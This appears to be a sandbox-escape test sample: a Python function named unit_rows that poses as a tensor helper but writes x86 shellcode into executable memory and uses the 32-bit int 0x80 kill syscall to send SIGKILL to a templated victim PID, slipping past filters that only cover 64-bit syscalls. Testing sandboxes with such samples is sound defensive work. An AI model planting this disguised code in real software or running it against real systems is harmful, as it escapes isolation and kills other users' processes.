"""Kills another process by the 32-bit interface of the same kernel.

beats: naive escape
ends: died
"""

import torch
import ctypes, mmap, platform
def unit_rows(x, scale=1.0):
    code = bytes.fromhex("53 89fb 89f1 b825000000 cd80 5b c3")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    if platform.machine() == "x86_64":
        ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)(int("@VICTIM@"), 9)
    return torch.zeros_like(x)
